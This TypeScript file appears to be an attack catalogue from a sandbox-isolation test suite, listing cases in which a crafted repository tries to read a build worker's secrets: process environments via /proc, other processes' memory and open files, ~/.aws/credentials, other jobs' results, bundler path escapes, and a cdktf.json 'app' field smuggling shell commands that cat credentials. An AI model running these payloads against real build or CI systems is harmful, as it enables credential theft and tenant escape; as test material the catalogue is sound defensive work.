import { appOf, type RepositoryAttack, type Stage } from '../attack.ts';

const aim = 'read the worker';
const fs = `import { existsSync, readdirSync, readFileSync, readlinkSync, openSync, readSync, writeFileSync } from 'node:fs';`;
const processes = `const all = readdirSync('/proc').filter((name) => /^[0-9]+$/.test(name));`;

/** A file whose path the attack knows. */
function readFileOf(place: (stage: Stage) => string) {
  return (stage: Stage) => appOf(`${fs} say(tryTo(() => readFileSync(${JSON.stringify(place(stage))}, 'utf8')));`);
}

export const readTheWorker: readonly RepositoryAttack[] = [
  { name: 'its own environment', aim, files: () => appOf('say(process.env);') },
  {
    name: 'the environment of its parent (/proc/$PPID/environ)',
    aim,
    control: true,
    sample: true,
    files: () =>
      appOf(`${fs}
        const environments = [];
        for (let id = process.ppid, n = 0; id > 0 && n < 20; n += 1) {
          environments.push(tryTo(() => readFileSync('/proc/' + id + '/environ', 'latin1')));
          id = Number(tryTo(() => /PPid:\\s*(\\d+)/.exec(readFileSync('/proc/' + id + '/status', 'utf8'))[1])) || 0;
        }
        say(environments);`),
  },
  {
    name: 'the environment of every process',
    aim,
    control: true,
    files: () =>
      appOf(
        `${fs} ${processes} say(all.map((id) => tryTo(() => readFileSync('/proc/' + id + '/environ', 'latin1'))));`,
      ),
  },
  {
    name: 'the memory of every process (/proc/ID/mem)',
    aim,
    control: true,
    files: () =>
      appOf(`${fs} ${processes}
        const found = all.filter((id) => id !== String(process.pid)).map((id) => tryTo(() => {
          const stack = readFileSync('/proc/' + id + '/maps', 'utf8').split('\\n').find((line) => line.includes('[stack]'));
          const [from, to] = /^([0-9a-f]+)-([0-9a-f]+)/.exec(stack).slice(1).map((text) => Number.parseInt(text, 16));
          const bytes = Buffer.alloc(Math.min(to - from, 262144));
          readSync(openSync('/proc/' + id + '/mem', 'r'), bytes, 0, bytes.length, to - bytes.length);
          const text = bytes.toString('latin1');
          return text.slice(Math.max(0, text.indexOf('canary')), text.indexOf('canary') + 40);
        }));
        say(found.filter((text) => String(text).startsWith('canary')));`),
  },
  {
    name: 'the files that other processes hold open (/proc/ID/fd)',
    aim,
    files: () =>
      appOf(`${fs} ${processes}
        const foreign = all.filter((id) => id !== String(process.pid));
        say(foreign.flatMap((id) => [tryTo(() => readdirSync('/proc/' + id + '/fd').map((n) => tryTo(() =>
          readlinkSync('/proc/' + id + '/fd/' + n).startsWith('/') ? readFileSync('/proc/' + id + '/fd/' + n, 'utf8').slice(0, 2000) : '')))]));`),
  },
  {
    name: 'the file system of process 1 (/proc/1/root)',
    aim,
    files: ({ home }) =>
      appOf(
        `${fs} say(['root', 'cwd'].map((name) => tryTo(() => readFileSync('/proc/1/' + name + '${home}/.aws/credentials', 'utf8'))));`,
      ),
  },
  {
    name: 'file descriptors that were left open for it',
    aim,
    files: () =>
      appOf(
        `${fs} say(readdirSync('/proc/self/fd').filter((n) => Number(n) > 2 && String(tryTo(() => readlinkSync('/proc/self/fd/' + n))).startsWith('/')).map((n) => tryTo(() => readFileSync(Number(n), 'utf8').slice(0, 1000))));`,
      ),
  },
  {
    name: 'the credentials in the home of the worker',
    aim,
    control: true,
    sample: true,
    files: readFileOf(({ home }) => `${home}/.aws/credentials`),
  },
  {
    name: 'the mirror of another stack',
    aim,
    control: true,
    sample: true,
    files: readFileOf(({ mirrorFile }) => mirrorFile),
  },
  {
    name: 'the synthesized stacks of others, and jobs beside it',
    aim,
    control: true,
    files: ({ folder }) =>
      appOf(`${fs}
        const data = '${folder}';
        const names = tryTo(() => readdirSync(data, { recursive: true })) ;
        say(Array.isArray(names) ? names.filter((n) => n.includes('results') && n.endsWith('.json')).map((n) => tryTo(() => readFileSync(data + '/' + n, 'utf8'))) : names);`),
  },
  {
    name: 'an import of a file outside the repository, when it is bundled',
    aim,
    control: true,
    files: ({ home }) => appOf(`import { secret } from '${home}/secret.ts'; say(secret);`),
  },
  {
    name: 'an import of JSON outside the repository, when it is bundled',
    aim,
    control: true,
    files: ({ home }) => appOf(`import secret from '${home}/secret.json'; say(secret);`),
  },
  {
    name: 'a tsconfig.json that leads the bundler outside',
    aim,
    control: true,
    files: ({ home }) =>
      appOf(`import { secret } from 'inside/secret.ts'; say(secret);`, {
        'tsconfig.json': JSON.stringify({
          extends: `${home}/tsconfig.json`,
          compilerOptions: { baseUrl: '.', paths: { 'inside/*': [`${home}/*`] } },
        }),
      }),
  },
  {
    name: 'the line of cdktf.json as a shell of its own',
    aim,
    control: true,
    files: ({ home }) =>
      appOf('', {
        'cdktf.json': JSON.stringify({
          app: `cat ${home}/.aws/credentials > seen.txt 2>&1; cat /proc/$PPID/environ >> seen.txt 2>&1; node take.mjs`,
        }),
        'take.mjs': `import { readFileSync } from 'node:fs'; import { say } from './kit.ts'; say(readFileSync('seen.txt', 'latin1'));`,
      }),
  },
];
